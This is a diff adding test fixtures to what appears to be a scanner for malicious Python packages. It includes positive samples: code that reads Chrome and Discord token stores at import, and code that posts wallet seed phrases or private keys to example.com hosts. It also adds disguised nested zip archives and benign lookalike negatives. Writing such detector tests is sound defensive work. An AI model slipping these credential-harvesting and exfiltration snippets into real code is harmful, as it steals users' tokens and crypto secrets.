@@ -158,6 +158,34 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/mod.py", 6, "call",
     ),
+    "credential-harvest/browser-and-chat-token-stores-at-import": Positive(
+        "credential-harvest", H,
+        W({"pkg/__init__.py": """
+            import os
+            LOCAL = os.getenv("LOCALAPPDATA", "")
+            STATE = open(LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Local State").read()
+            TOKENS = os.listdir(os.getenv("APPDATA", "") + "\\\\discord\\\\Local Storage\\\\leveldb")
+        """}),
+        "pkg/__init__.py", 3, "import",
+    ),
+    "wallet-secret-sent/seed-phrase-posted-when-called": Positive(
+        "wallet-secret-sent", H,
+        W({"pkg/wallet.py": """
+            import requests
+
+            def backup(phrase):
+                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
+        """}),
+        "pkg/wallet.py", 4, "call",
+    ),
+    "wallet-secret-sent/private-key-posted-at-import": Positive(
+        "wallet-secret-sent", C,
+        W({"pkg/__init__.py": """
+            import os, requests
+            requests.post("https://api.example.com/k", data={"privateKey": os.environ.get("PK", "")})
+        """}),
+        "pkg/__init__.py", 2, "import",
+    ),
     "credential-exfiltration/one-store-read-and-sent-at-import": Positive(
         "credential-exfiltration", C,
         W({"pkg/__init__.py": """
@@ -660,6 +688,16 @@ POSITIVE: dict[str, Positive] = {
         "archive-nesting-too-deep", L, lambda: _nested(3), "pkg/level1.zip!/level2.zip!/level3.zip", None, None
     ),
     "archive-unreadable-member/bad-crc": Positive("archive-unreadable-member", L, _bad_crc, "pkg/data.txt", None, None),
+    "archive-disguised/python-zip-named-typed": Positive(
+        "archive-disguised", H,
+        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/_ws.typed", zip_bytes([("hook.py", b"import os\n")]))]),
+        "pkg/_ws.typed", None, None,
+    ),
+    "archive-disguised/data-zip-named-dat": Positive(
+        "archive-disguised", M,
+        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/logo.dat", zip_bytes([("logo.svg", b"<svg/>")]))]),
+        "pkg/logo.dat", None, None,
+    ),
     # odd sources -------------------------------------------------------------------------------
     "source-unparseable/python-2": Positive(
         "source-unparseable", L, W({"pkg/old.py": "x = 1\nprint 'hello'\n"}), "pkg/old.py", 2, None
@@ -771,6 +809,26 @@ NEGATIVE: dict[str, Negative] = {
 
             def call(url, creds):
                 return requests.get(url, auth=(creds["aws_access_key_id"], creds["aws_secret_access_key"]))
+        """}),
+    ),
+    "credential-harvest/cookie-library-reads-a-browser-when-called": Negative(
+        "credential-harvest",
+        W({"pkg/cookies.py": """
+            import os
+            import win32crypt
+
+            def chrome_key():
+                state = open(os.path.expandvars("%LOCALAPPDATA%\\\\Google\\\\Chrome\\\\User Data\\\\Local State")).read()
+                return win32crypt.CryptUnprotectData(state, None, None, None, 0)
+        """}),
+    ),
+    "wallet-secret-sent/signed-transaction-posted": Negative(
+        "wallet-secret-sent",
+        W({"pkg/wallet.py": """
+            import requests
+
+            def broadcast(address, signed):
+                requests.post("https://rpc.example.com", json={"from": address, "raw_transaction": signed})
         """}),
     ),
     "host-exfiltration/usage-report-in-uncalled-function": Negative(
@@ -1096,6 +1154,12 @@ NEGATIVE: dict[str, Negative] = {
         lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.bin", bytes(4096))], limits=Limits(max_member_bytes=4096)),
     ),
     "archive-nesting-too-deep/one-nested-archive": Negative("archive-nesting-too-deep", lambda: _nested(1)),
+    "archive-disguised/zip-based-formats-named-as-such": Negative(
+        "archive-disguised",
+        lambda: zip_artifact(
+            [("pkg/__init__.py", b""), ("pkg/app.pyz", zip_bytes([("__main__.py", b"x = 1\n")])), ("pkg/table.xlsx", zip_bytes([("a.xml", b"<a/>")]))]
+        ),
+    ),
     "archive-unreadable-member/intact-stored-zip": Negative("archive-unreadable-member", _intact_stored_zip),
     "source-unparseable/valid-python-3": Negative("source-unparseable", W({"pkg/new.py": "print('hello')\n"})),
     "source-null-bytes/escaped-nul-in-a-literal": Negative("source-null-bytes", W({"pkg/mod.py": b"x = b'\\x00'\n"})),
